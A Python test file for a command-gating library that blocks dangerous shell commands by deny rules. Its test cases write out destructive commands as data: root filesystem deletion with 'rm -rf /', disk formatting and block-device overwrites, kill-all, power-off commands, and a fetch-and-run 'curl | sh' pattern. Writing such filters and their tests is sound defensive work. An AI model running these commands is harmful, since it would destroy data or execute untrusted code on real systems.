"""Tests for CommandPolicy and the deny rules."""

from __future__ import annotations

import re

import pytest

from cmdgate import PermissionDenied, Verdict, classify
from cmdgate.security.policy import DENY_RULES, ROOT_DELETE_RULES, CommandPolicy


class TestRootDeletion:
    """Tests for the rm rules checked ahead of the table."""

    @pytest.mark.parametrize(
        "command",
        [
            "rm -rf /",
            "rm -fr /",
            "rm -rf /*",
            "rm -fr /*",
            "rm -Rfv /",
            "rm -r -f /",
            "rm -rf / ; echo done",
            "rm -rf /* && ls",
            "rm -rf /* | tee log",
            "rm -fr / | cat",
            "echo start; rm -rf /",
        ],
    )
    def test_blocks_root_deletion(self, command: str) -> None:
        """Recursive force delete of / or /* is blocked in any flag order."""
        assert classify(command) == Verdict.block("root filesystem deletion")

    def test_no_preserve_root_wins(self) -> None:
        """The literal flag check runs before the rm patterns."""
        verdict = classify("rm -rf --no-preserve-root /")
        assert verdict.reason == "dangerous rm flag"

    def test_no_preserve_root_anywhere(self) -> None:
        """The flag is blocked even without a root target."""
        assert classify("echo --no-preserve-root").reason == "dangerous rm flag"

    @pytest.mark.parametrize(
        "command",
        [
            "rm -rf ./temp",
            "rm -rf /tmp/build",
            "rm file.txt",
            "rm -r /",
            "rm -f /",
        ],
    )
    def test_allows_scoped_rm(self, command: str) -> None:
        """rm of a subdirectory, or without both flags, is allowed."""
        assert classify(command).allowed


class TestDenyTable:
    """Tests for the ordered rule table."""

    @pytest.mark.parametrize(
        ("command", "reason"),
        [
            ("shutdown -h now", "power control command"),
            ("reboot", "power control command"),
            ("echo bye; halt", "power control command"),
            ("true && poweroff", "power control command"),
            ("init 0", "runlevel switch command"),
            ("init 6", "runlevel switch command"),
            ("systemctl reboot", "system power control command"),
            ("systemctl poweroff", "system power control command"),
            ("systemctl halt", "system power control command"),
            ("mkfs /dev/sdb", "disk formatting/partition command"),
            ("mkfs.ext4 /dev/sdb1", "disk formatting/partition command"),
            ("fdisk -l", "disk formatting/partition command"),
            ("sfdisk /dev/sda < layout", "disk formatting/partition command"),
            ("parted /dev/sdb mklabel gpt", "disk formatting/partition command"),
            ("wipefs -a /dev/sdc", "disk formatting/partition command"),
            ("dd if=/dev/zero of=out.img bs=1M count=1", "raw disk copy command"),
            ("cat disk.img | dd of=backup.img", "raw disk copy command"),
            ("cp if=/dev/sda x", "block-device access argument"),
            ("pv of=/dev/nvme0n1p2", "block-device access argument"),
            (": > /dev/sda", "block-device overwrite"),
            ("echo x; : > /dev/vdb", "block-device overwrite"),
            ("kill -9 -1", "kill-all command"),
            ("kill -9 1", "kill-all command"),
        ],
    )
    def test_blocks_with_reason(self, command: str, reason: str) -> None:
        """Each dangerous command is blocked with its rule's reason."""
        assert classify(command) == Verdict.block(reason)

    def test_first_match_wins(self) -> None:
        """dd targeting a block device reports the earlier dd rule."""
        assert classify("dd if=/dev/zero of=/dev/sda").reason == "raw disk copy command"

    def test_power_rule_precedes_systemctl_rule(self) -> None:
        """A command hitting both power rules reports the first one."""
        assert classify("reboot; systemctl reboot").reason == "power control command"

    @pytest.mark.parametrize(
        "command",
        [
            "cat shutdown.log",
            "grep reboot /var/log/syslog",
            "echo halting",
            "ddrescue --help",
            "init 3",
            "systemctl status nginx",
            "kill -9 1234",
            "ls /dev/sda",
        ],
    )
    def test_allows_words_inside_other_commands(self, command: str) -> None:
        """Rule keywords only match at a command boundary."""
        assert classify(command).allowed


class TestCaseInsensitivity:
    """Case variation must not bypass a rule."""

    @pytest.mark.parametrize(
        "command",
        [
            "rm -rf /",
            "shutdown now",
            "mkfs.ext4 /dev/sda1",
            "kill -9 -1",
            "rm --no-preserve-root x",
            "echo ok; SystemCtl Halt",
            "pv OF=/DEV/SDA",
            "cat x | IF=/Dev/Nvme0N1P1",
            ": > /DEV/VDB",
        ],
    )
    def test_mixed_case_blocked_same_as_lower(self, command: str) -> None:
        """Upper, swapped and lower case all give the same verdict."""
        expected = classify(command.lower())
        assert expected.blocked
        assert classify(command.upper()) == expected
        assert classify(command.swapcase()) == expected


class TestCommandPolicy:
    """Tests for the policy object."""

    def test_allows_safe_commands(self, standard_policy: CommandPolicy) -> None:
        """Commands matching no rule are allowed."""
        for command in ["ls -la", "cat /etc/hostname", "echo hello", "uname -a", "df -h"]:
            assert standard_policy.classify(command) == Verdict.allow()

    def test_check_returns_command(self, standard_policy: CommandPolicy) -> None:
        """check() passes allowed commands through unchanged."""
        assert standard_policy.check("ls -la") == "ls -la"

    def test_check_raises_permission_denied(self, standard_policy: CommandPolicy) -> None:
        """check() raises with the rule's reason."""
        with pytest.raises(PermissionDenied) as exc_info:
            standard_policy.check("rm -rf /")
        assert exc_info.value.reason == "root filesystem deletion"
        assert exc_info.value.command == "rm -rf /"
        assert str(exc_info.value) == "blocked command: root filesystem deletion"

    def test_extended_appends_rules(self, standard_policy: CommandPolicy) -> None:
        """Extra rules are checked after the built-in table."""
        policy = standard_policy.extended((r"\bcurl\b.*\|\s*(ba)?sh", "remote script execution"))

        assert policy.classify("curl http://x | sh").reason == "remote script execution"
        assert policy.classify("CURL http://x | BASH").reason == "remote script execution"
        assert policy.classify("reboot").reason == "power control command"

    def test_extended_leaves_original_untouched(self, standard_policy: CommandPolicy) -> None:
        """The shared policy never changes."""
        standard_policy.extended((r"\bls\b", "no listing"))
        assert standard_policy.classify("ls").allowed
        assert standard_policy.rules is DENY_RULES


class TestRuleTables:
    """Tests for the compiled rule tables."""

    def test_rules_are_compiled(self) -> None:
        """All patterns should be compiled regex objects with a reason."""
        for rule in ROOT_DELETE_RULES + DENY_RULES:
            assert isinstance(rule.pattern, re.Pattern)
            assert rule.reason

    def test_tables_are_immutable(self) -> None:
        """The tables are tuples so no request can change them."""
        assert isinstance(DENY_RULES, tuple)
        assert isinstance(ROOT_DELETE_RULES, tuple)
